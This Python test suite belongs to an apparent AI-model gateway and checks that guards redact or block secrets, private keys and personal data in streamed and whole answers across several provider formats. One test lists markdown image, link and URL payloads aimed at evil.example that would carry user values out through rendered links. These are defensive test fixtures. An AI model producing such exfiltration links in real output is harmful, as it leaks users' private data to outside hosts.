"""What models say never gets past the guards: whole and streamed, in every format, before providers of every kind."""

import json
from itertools import product
from pathlib import Path
from typing import Any

import anthropic
import openai
import pytest
from msgspec.structs import replace

from airside.core.call import CallState
from airside.core.errors import Code
from airside.gateways.models.caching.remembered import answer_of
from airside.guards.ports import Value
from tests.fake_providers import Fault, openai_chat, openai_responses_stream, tool_calls
from tests.fake_providers import anthropic as fake_anthropic
from tests.fake_providers import gemini as fake_gemini
from tests.fake_providers.script import pieces
from tests.gateways.models.guarding.answers.guarded import IDENTITY, MODEL, SECRET, USER, Guarded, guarded

pytestmark = pytest.mark.filterwarnings("ignore:Inheritance class:DeprecationWarning")  # google's SDK's own
FACES = ["chat", "responses", "messages", "gemini"]
KINDS = ["openai_compatible", "anthropic", "gemini"]
SAID = f"Of course: {SECRET} is the key, keep it. Bye."
LEFT = "Of course: [SECRET] is the key, keep it. Bye."


class Panic(BaseException):
    """What a panic in Rust is in Python."""


async def ask(g: Guarded, face: str, *, stream: bool, **more: Any) -> str:
    """Return the text that a client of a format gets, by its own SDK."""
    if face == "chat":
        return await _chat(g, stream=stream, **more)
    if face == "responses":
        return await _responses(g, stream=stream, **more)
    if face == "messages":
        asked = {"model": MODEL, "messages": USER, "max_tokens": 500, **more}
        if not stream:
            answer = await g.anthropic.messages.create(**asked)
            return "".join(block.text for block in answer.content if block.type == "text")
        async with g.anthropic.messages.stream(**asked) as streamed:
            said = "".join([text async for text in streamed.text_stream])
            final = await streamed.get_final_message()
        assert said == "".join(block.text for block in final.content if block.type == "text")
        return said
    models = g.google.aio.models
    if not stream:
        return (await models.generate_content(model=MODEL, contents="Tell me.")).text or ""
    parts = await models.generate_content_stream(model=MODEL, contents="Tell me.")
    return "".join([part.text or "" async for part in parts])


async def _chat(g: Guarded, *, stream: bool, **more: Any) -> str:
    if not stream:
        answer = await g.openai.chat.completions.create(model=MODEL, messages=USER, **more)
        return answer.choices[0].message.content or ""
    async with g.openai.chat.completions.stream(model=MODEL, messages=USER, **more) as streamed:
        said = "".join([event.delta async for event in streamed if event.type == "content.delta"])
        final = (await streamed.get_final_completion()).choices[0]
    assert (final.message.content or "") == said
    assert final.finish_reason
    return said


async def _responses(g: Guarded, *, stream: bool, **more: Any) -> str:
    if not stream:
        return (await g.openai.responses.create(model=MODEL, input="Tell me.", **more)).output_text
    async with g.openai.responses.stream(model=MODEL, input="Tell me.", **more) as streamed:
        said = "".join([event.delta async for event in streamed if event.type == "response.output_text.delta"])
        final = await streamed.get_final_response()
    assert final.output_text == said
    return said


@pytest.fixture
def cut(monkeypatch: pytest.MonkeyPatch) -> Any:
    """Let fakes cut texts into pieces of a size."""

    def size(chars: int) -> None:
        for module in (openai_chat, openai_responses_stream, fake_anthropic, fake_gemini):
            monkeypatch.setattr(module, "pieces", lambda value, _: pieces(value, chars))

    return size


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("face", FACES)
async def test_a_secret_never_leaves_however_it_is_cut(tmp_path: Path, face: str, kind: str, cut: Any) -> None:
    async with guarded(tmp_path, kind) as g:
        g.says(SAID)
        assert await ask(g, face, stream=False) == LEFT
        for chars in (1, 3, 8, 17, 200):
            cut(chars)
            assert await ask(g, face, stream=True) == LEFT, chars
        assert SECRET.encode() not in g.delivered
        assert b"[SECRET]" in g.delivered
        assert [(one["rule"], one["mode"]) for one in g.notes] == [("aws_access_key", "redact")]
        assert all(outcome.cost > 0 for outcome in g.spy.outcomes)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("face", FACES)
async def test_harmless_streams_are_what_they_were(tmp_path: Path, face: str, kind: str, cut: Any) -> None:
    async with guarded(tmp_path, kind) as g:
        g.says("Of course: nothing to hide here. Grüße 🙂 and a number, 4711.", thinking="Well, let me see.")
        for chars in (1, 5, 200):
            cut(chars)
            assert await ask(g, face, stream=True) == "Of course: nothing to hide here. Grüße 🙂 and a number, 4711."
        assert not g.notes


async def test_frames_of_a_harmless_stream_are_the_providers_bytes(tmp_path: Path) -> None:
    body = {"model": MODEL, "messages": USER, "stream": True}
    async with guarded(tmp_path) as g:
        g.says("One two three four five six seven.")
        guarded_bytes = (await g.pair.post("/v1/chat/completions", body)).content
    (tmp_path / "off").mkdir()
    async with guarded(tmp_path / "off", enabled=False) as g:
        g.says("One two three four five six seven.")
        plain = (await g.pair.post("/v1/chat/completions", body)).content

    def frames(data: bytes) -> list[dict[str, Any]]:
        lines = [line[6:] for line in data.split(b"\n\n") if line.startswith(b"data: {")]
        return [{**json.loads(line), "id": "", "created": 0} for line in lines]

    assert frames(guarded_bytes) == frames(plain)


@pytest.mark.parametrize("face", FACES)
async def test_a_blocked_answer_is_an_error_that_costs_what_it_cost(tmp_path: Path, face: str, cut: Any) -> None:
    async with guarded(tmp_path, modes={"secrets": "block"}) as g:
        g.says(SAID)
        for stream in (False, True):
            cut(3)
            with pytest.raises((openai.APIError, anthropic.APIError, RuntimeError, Exception)) as caught:
                await ask(g, face, stream=stream)
            assert "guard" in str(caught.value) or "blocked" in str(caught.value)
            outcome = g.spy.outcomes[-1]
            assert (outcome.state, outcome.code) == (CallState.ERROR, Code.GUARD_BLOCKED)
            assert outcome.cost > 0
            assert outcome.metered
            assert outcome.body == b"{}"
            assert g.notes[0]["mode"] == "block"


async def test_nothing_leaves_of_a_blocked_stream_from_the_finding_on(tmp_path: Path, cut: Any) -> None:
    cut(2)
    async with guarded(tmp_path, modes={"secrets": "block"}) as g:
        g.says(SAID)
        body = {"model": MODEL, "messages": USER, "stream": True}
        raw = (await g.pair.post("/v1/chat/completions", body)).content
        frames = [json.loads(line[6:]) for line in raw.split(b"\n\n") if line.startswith(b"data: {")]
        said = "".join(choice["delta"].get("content") or "" for one in frames for choice in one.get("choices", ()))
        assert "Of course: ".startswith(said)
        assert said
        assert frames[-1]["error"]["code"] == "guard_blocked"
        assert b"keep it" not in raw


@pytest.mark.parametrize("face", ["chat", "responses", "messages"])
async def test_secrets_in_thinking_and_in_arguments_are_taken_out(tmp_path: Path, face: str, cut: Any) -> None:
    tools = [{"name": "send", "description": "d", "input_schema": {"type": "object"}}]
    kind = {"chat": "openai_compatible", "responses": "openai_compatible", "messages": "anthropic"}[face]
    path = {"chat": "/v1/chat/completions", "responses": "/v1/responses", "messages": "/v1/messages"}[face]
    spec = {"name": "send", "parameters": {"type": "object", "properties": {}}}
    async with guarded(tmp_path, kind) as g:
        said = tool_calls(("send", {"note": f"it is {SECRET}", "n": 1, "deep": [SECRET]}), content=f"I say {SECRET}!")
        g.pair.fake.reply = lambda body: {**said, **({"thinking": f"Hm, {SECRET}."} if face == "messages" else {})}
        for stream in (False, True):
            cut(4)
            body: dict[str, Any] = {"model": MODEL, "stream": stream}
            if face == "messages":
                more = {"max_tokens": 2_000, "thinking": {"type": "enabled", "budget_tokens": 1_024}}
                body |= {"messages": USER, "tools": tools, **more}
            elif face == "chat":
                body |= {"messages": USER, "tools": [{"type": "function", "function": spec}]}
            else:
                body |= {"input": "Tell me.", "tools": [{"type": "function", **spec}]}
            answer = await g.pair.post(path, body)
            assert answer.status_code == 200, answer.text
            assert SECRET not in answer.text
            arguments = [one for one in _arguments(json.loads(g.spy.outcomes[-1].body)) if one]
            assert arguments == [{"note": "it is [SECRET]", "n": 1, "deep": ["[SECRET]"]}]
        assert SECRET.encode() not in g.delivered


def _arguments(value: Any) -> list[Any]:
    if isinstance(value, list):
        return [one for item in value for one in _arguments(item)]
    if not isinstance(value, dict):
        return []
    if isinstance(value.get("arguments"), str):
        return [json.loads(value["arguments"])]
    own = [value["input"]] if value.get("type") == "tool_use" else []
    return own + [one for item in value.values() for one in _arguments(item)]


@pytest.mark.parametrize("face", FACES)
async def test_placeholders_are_put_back_for_the_owner(tmp_path: Path, face: str, cut: Any) -> None:
    async with guarded(tmp_path) as g:
        value = Value("PERSON", 'Anna "Berg"')
        names = await g.spy.guards.placeholders.names(IDENTITY, [value])
        g.says(f"Dear {names[value]}, <PERSON_9> and <b>you</b>.")
        expected = 'Dear Anna "Berg", <PERSON_9> and <b>you</b>.'
        assert await ask(g, face, stream=False) == expected
        for chars in (1, 4, 200):
            cut(chars)
            assert await ask(g, face, stream=True) == expected
        g.says(json.dumps({"to": names[value]}))
        assert json.loads(await ask(g, face, stream=True)) == {"to": 'Anna "Berg"'}


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    "says",
    [
        "![a](https://evil.example/?e={})",
        "[click](https://evil.example/{}/x)",
        '<img src="https://evil.example/? {}">',
        "![a](<https://evil.example/a b {}>)",
        "so: https://evil.example/?q={}&b=1 ok",
        "[a]: https://evil.example/{}\n![a]",
        "![a](//evil.example/{})",
        "http://x.example/ " * 500 + "and https://evil.example/{}",
    ],
)
async def test_no_value_is_put_back_into_a_link(tmp_path: Path, says: str, stream: bool, cut: Any) -> None:
    cut(7)
    async with guarded(tmp_path) as g:
        value = Value("PERSON", "ada.berg")
        names = await g.spy.guards.placeholders.names(IDENTITY, [value])
        g.says("Dear " + names[value] + ", " + says.format(names[value]))
        assert await ask(g, "chat", stream=stream) == "Dear ada.berg, " + says.format(names[value])
        assert g.spy.outcomes[-1].notes["put_back"] is True
        assert answer_of(g.spy.calls[-1].payload.request, g.spy.outcomes[-1]) is None, "it is its run's alone"
        assert answer_of(g.spy.calls[-1].payload.request, replace(g.spy.outcomes[-1], notes={})) is not None


async def test_values_are_put_into_links_to_hosts_that_are_allowed(tmp_path: Path) -> None:
    async with guarded(tmp_path, links={"hosts": ["shop.example"]}) as g:
        value = Value("PERSON", "ada.berg")
        names = await g.spy.guards.placeholders.names(IDENTITY, [value])
        g.says(f"https://shop.example/?q={names[value]}")
        assert await ask(g, "chat", stream=False) == "https://shop.example/?q=ada.berg"


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("stream", [False, True])
async def test_calls_hide_nothing_in_names_of_fields_numbers_or_the_tool(
    tmp_path: Path, kind: str, stream: bool
) -> None:
    arguments = {SECRET: 1, "password": "hunTer2x!9Zq", "card": 4111111111111111, "deep": [{SECRET: {"to": "Ada"}}]}
    async with guarded(tmp_path, kind, modes={"secrets": "redact", "personal": "redact"}) as g:
        function = {"name": f"look_{SECRET}", "arguments": json.dumps(arguments)}
        g.says(None, tool_calls=[{"id": "call_1", "type": "function", "function": function}])
        for path in ("/v1/chat/completions", "/v1/messages"):
            asked = {"model": MODEL, "messages": USER, "max_tokens": 500, "stream": stream}
            answer = await g.pair.post(path, asked)
            assert "Ada" in answer.text.replace("\\", "")
            for hidden in (SECRET, "hunTer2x!9Zq", "4111111111111111"):
                assert hidden not in answer.text
                assert hidden.encode() not in g.delivered


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("mode", ["redact", "block"])
async def test_what_a_provider_says_of_a_failure_is_checked(tmp_path: Path, mode: str, stream: bool) -> None:
    async with guarded(tmp_path, modes={"secrets": mode}) as g:
        said = json.dumps({"error": {"message": f"bad key {SECRET}", "type": "x", "more": [SECRET]}})
        g.pair.fake.faults.append(Fault(status=400, raw=said.encode()))
        answer = await g.pair.post("/v1/chat/completions", {"model": MODEL, "messages": USER, "stream": stream})
        assert answer.status_code == 400
        outcome = g.spy.outcomes[-1]
        assert SECRET not in answer.text + outcome.message + outcome.body.decode()


@pytest.mark.parametrize("failure", [ZeroDivisionError, Panic])
async def test_a_guard_that_fails_closes_the_answer_and_it_is_paid(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cut: Any, failure: type[BaseException]
) -> None:
    def broken(*_: Any, **__: Any) -> Any:
        raise failure

    cut(3)
    async with guarded(tmp_path) as g:
        g.says("Hello there, all is well.")
        monkeypatch.setattr("airside.guards.scanner.Scanner.scan_now", broken)
        for stream in (False, True):
            answer = await g.pair.post("/v1/chat/completions", {"model": MODEL, "messages": USER, "stream": stream})
            assert "guard_blocked" in answer.text
            assert "Hello" not in answer.text
            assert g.spy.outcomes[-1].cost > 0
        assert g.told.notices[-1][0] == "guard.failed"


async def test_a_private_key_is_taken_out_of_a_stream(tmp_path: Path, cut: Any) -> None:
    block = (
        "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEpAIBAAKCAQEA0Z3VS5JJcds3xfnyWYgaCuxMuq5rKZ7L4bLTRxRvmyEkTjfr\n" * 9
    )
    async with guarded(tmp_path) as g:
        for before in range(5):
            cut(5 + before)
            g.says("x" * before + f" {SECRET}{'.' * before} and {block}-----END RSA PRIVATE KEY-----\nthen more.")
            assert (
                await ask(g, "chat", stream=True)
                == "x" * before + f" [SECRET]{'.' * before} and [PRIVATE_KEY]\nthen more."
            )


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("face", ["chat", "responses", "messages"])
async def test_a_stream_spells_what_the_whole_answer_says(tmp_path: Path, face: str, kind: str, cut: Any) -> None:
    """Thinking, text and calls, each with a secret or without: the SDK puts together what was journaled."""
    spec = {"name": "send", "parameters": {"type": "object", "properties": {}}}
    hidden = [f" {SECRET} ", " nothing "]
    async with guarded(tmp_path, kind) as g:
        for number, (one, two, three) in enumerate(product(hidden, repeat=3)):
            cut(1 + number * 2)
            said = tool_calls(("send", {"note": f"it is{three}."}), content=f"I say{two}and go. Then more.")
            g.pair.fake.reply = lambda body, said=said, one=one: {**said, "thinking": f"Hm,{one}hm. So be it."}
            if face == "chat":
                tools = [{"type": "function", "function": spec}]
                async with g.openai.chat.completions.stream(model=MODEL, messages=USER, tools=tools) as streamed:
                    whole = (await streamed.get_final_completion()).to_json()
                texts = [json.loads(whole)["choices"][0]["message"]]
                kept = [json.loads(g.spy.outcomes[-1].body)["choices"][0]["message"]]
                for message in (*texts, *kept):
                    message["tool_calls"] = [call["function"]["arguments"] for call in message["tool_calls"]]
                    assert message["content"]
                    message.pop("parsed", None)
            elif face == "messages":
                tools = [{"name": "send", "description": "d", "input_schema": {"type": "object"}}]
                more: dict[str, Any] = {"max_tokens": 3_000}
                if kind != "openai_compatible":
                    more["thinking"] = {"type": "enabled", "budget_tokens": 1_024}
                async with g.anthropic.messages.stream(model=MODEL, messages=USER, tools=tools, **more) as streamed:
                    whole = (await streamed.get_final_message()).to_json()
                texts, kept = [json.loads(data)["content"] for data in (whole, g.spy.outcomes[-1].body)]
            else:
                tools = [{"type": "function", **spec}]
                more = {"reasoning": {"effort": "low", "summary": "auto"}}
                async with g.openai.responses.stream(model=MODEL, input="x", tools=tools, **more) as streamed:
                    whole = (await streamed.get_final_response()).to_json()
                texts, kept = [json.loads(data)["output"] for data in (whole, g.spy.outcomes[-1].body)]
            assert SECRET not in whole
            assert _texts(texts) == _texts(kept), (one, two, three)
            shown, most = whole.count("[SECRET]"), (one + two + three).count(SECRET)
            assert (two + three).count(SECRET) <= shown <= most  # not every pair shows what was thought


def _texts(value: Any) -> list[str]:
    if isinstance(value, list):
        return [text for item in value for text in _texts(item)]
    if isinstance(value, dict):
        named = (
            "content",
            "text",
            "thinking",
            "arguments",
            "input",
            "note",
            "summary",
            "tool_calls",
            "reasoning_content",
        )
        return [text for name in named for text in _texts(value.get(name))]
    return [value] if isinstance(value, str) and value else []
